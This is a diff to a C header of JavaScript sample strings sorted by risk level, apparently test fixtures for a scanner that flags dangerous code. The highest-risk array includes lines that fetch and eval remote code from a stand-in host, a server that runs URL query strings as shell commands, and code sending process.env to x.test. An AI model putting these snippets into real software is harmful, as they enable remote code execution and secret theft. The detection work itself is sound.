@@ -48,9 +48,11 @@ static const char *const intent[] = {
 	"fetch(u).then(r => r.text()).then(t => { new Function(t)() })",
 	"(async () => { const r = await fetch(u); const t = await r.text(); eval(t) })()",
 	"const axios = require('axios'); axios.get(u).then(r => require('vm').runInThisContext(r.data))",
-	"require('https').get('https://x.test/a', r => { let b = ''; r.on('data', d => { b += d }); r.on('end', () => eval(b)) })",
+	"require('https').get('https://x.test/a', r => { let b = ''; r.on('data', d => { b += d }); r.on('end', () => "
+	"eval(b)) })",
 	"require('http').get(u, r => { const l = []; r.on('data', d => require('child_process').exec(d.toString())) })",
-	"require('http').createServer((q, r) => require('child_process').exec(require('url').parse(q.url).query)).listen(1)",
+	"require('http').createServer((q, r) => "
+	"require('child_process').exec(require('url').parse(q.url).query)).listen(1)",
 	"fetch('https://x.test/a').then(save); require('child_process').spawn('./a')",
 	"import x from 'https://x.test/a.js'",
 	/* hiding */
@@ -79,6 +81,9 @@ static const char *const intent[] = {
 	"[][a][b]('return process')()",
 	"eval(\"console.log('x')\")",
 	"new Function(\"require('fs')\")()",
+	/* decided by whoever embeds the code */
+	"eval(given)",
+	"const { exec } = require('child_process'); exec(`ls ${given}`)",
 	/* the environment goes out */
 	"fetch('https://x.test/', { method: 'POST', body: JSON.stringify(process.env) })",
 	"const data = Buffer.from(JSON.stringify(process.env)).toString('base64'); fetch('https://x.test/?' + data)",
@@ -98,11 +103,16 @@ static const char *const intent_typescript[] = {
 static const char *const reaching_out[] = {
 	"fetch('https://x.test/data.json').then(r => r.json()).then(console.log)",
 	"require('https').get('https://x.test/', r => r.resume())",
-	"const axios = require('axios'); axios.get('https://x.test/', { headers: { authorization: process.env.API_KEY } })",
-	"const server = require('http').createServer(f); fetch('https://x.test/' + name); fetch(`https://x.test/${name}`)",
+	"const axios = require('axios'); axios.get('https://x.test/', { headers: { authorization: process.env.API_KEY "
+	"} })",
+	"const server = require('http').createServer(f); fetch('https://x.test/' + name); "
+	"fetch(`https://x.test/${name}`)",
 	"require('dns').lookup('x.test', console.log)",
 	"new WebSocket('wss://x.test')",
 	"console.log(process.env)",
+	"require('fs').readFile(given, f)",
+	"require('fs').readFileSync(`data/${given}`)",
+	"require(given)",
 };
 
 /* Nothing above MEDIUM. */
@@ -114,8 +124,10 @@ static const char *const everyday[] = {
 	"const fs = require('fs'); function read(file) { return fs.readFileSync(file, 'utf8') } read(process.argv[2])",
 	"for (const f of require('fs').readdirSync('.')) console.log(f, require('fs').statSync(f).size)",
 	"const { spawnSync } = require('child_process'); console.log(spawnSync('ls', ['-l']).stdout.toString())",
-	"const { spawn } = require('node:child_process'); const p = spawn('sort'); p.stdin.end('b'); p.on('close', c => c)",
-	"const cp = require('child_process'); const out = cp.execFileSync('node', ['--version'], { env: { ...process.env } })",
+	"const { spawn } = require('node:child_process'); const p = spawn('sort'); p.stdin.end('b'); p.on('close', c "
+	"=> c)",
+	"const cp = require('child_process'); const out = cp.execFileSync('node', ['--version'], { env: { "
+	"...process.env } })",
 	"const { fork } = require('child_process'); if (process.argv[2] === 'child') process.send(1);"
 	"else fork(__filename, ['child']).on('message', console.log)",
 	"const cluster = require('cluster'); if (cluster.isPrimary) { for (let i = 0; i < 2; i++) cluster.fork() }",
@@ -125,7 +137,8 @@ static const char *const everyday[] = {
 	"if (isMainThread) new Worker(__filename); else parentPort.postMessage(1)",
 	"const { Worker } = require('worker_threads');"
 	"new Worker(\"require('worker_threads').parentPort.postMessage(1)\", { eval: true })",
-	"const vm = require('vm'); const c = vm.createContext({ x: 2 }); vm.runInContext('y = x * 21', c); console.log(c.y)",
+	"const vm = require('vm'); const c = vm.createContext({ x: 2 }); vm.runInContext('y = x * 21', c); "
+	"console.log(c.y)",
 	"const expr = '2 * (3 + 4)'; console.log(eval(expr))",
 	"function calculate(text) { if (/^[\\d+*/() -]+$/.test(text)) return eval(text) } calculate('1+1')",
 	"const add = new Function('a', 'b', 'return a + b'); console.log(add(1, 2))",
@@ -142,15 +155,29 @@ static const char *const everyday[] = {
 	"const os = require('os'); console.log(os.cpus().length, os.platform(), os.userInfo().username, os.homedir())",
 	"console.log(Buffer.from('aGk=', 'base64').toString(), atob('aGk='), String.fromCharCode(72, 105))",
 	"const data = JSON.parse(Buffer.from(process.argv[2], 'base64').toString()); console.log(data)",
+	"const fs = require('fs'); for (const f of fs.readdirSync('plugins')) require(`./plugins/${f}`).run()",
+	"const path = require('path'); import(path.join(process.cwd(), process.argv[2]))",
+	"const client = require('redis').createClient(); client.connect()",
+	"const { Server, WebSocket } = require('ws'); const s = new Server({ port: 0 });"
+	"new WebSocket(`ws://localhost:${s.address().port}`)",
+	"import { test } from 'node:test'; import fs from 'node:fs';"
+	"test('x', t => { const file = t.name + '.txt'; fs.writeFileSync(file, 'x'); fs.unlinkSync(file) })",
+	"try { require('fs').readFileSync(name()) } catch ({ code, path }) { require('fs').existsSync(path) }",
+	"class Store { #file; constructor(file = 'a') { this.#file = file } load() { return "
+	"require('fs').readFileSync(this.#file) } }",
+	"total = 0; file = 'a'; require('fs').readFileSync(file)",
 	"delete require.cache[require.resolve('./a')]; const a = require('./a')",
 	"const k = 'na' + 'me'; const o = { name: 1 }; console.log(o[k], globalThis['count' + 1])",
 	"if (typeof Deno !== 'undefined') console.log(Deno.args); else console.log(process.argv)",
 	"const bytes = new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]); WebAssembly.instantiate(bytes)",
 	"console.log(f.constructor.name, [].constructor === Array, Object.getPrototypeOf(f))",
-	"import { createRequire } from 'module'; const require = createRequire(import.meta.url); const fs = require('fs')",
-	"const { promisify } = require('util'); const run = promisify(require('child_process').execFile); run('ls', [])",
+	"import { createRequire } from 'module'; const require = createRequire(import.meta.url); const fs = "
+	"require('fs')",
+	"const { promisify } = require('util'); const run = promisify(require('child_process').execFile); run('ls', "
+	"[])",
 	"while (true) { const line = next(); if (!line) break; require('child_process').spawnSync('echo', [line]) }",
-	"const secret = require('crypto').randomBytes(8).toString('hex'); require('fs').writeFileSync('note.enc', secret)",
+	"const secret = require('crypto').randomBytes(8).toString('hex'); require('fs').writeFileSync('note.enc', "
+	"secret)",
 };
 
 #endif
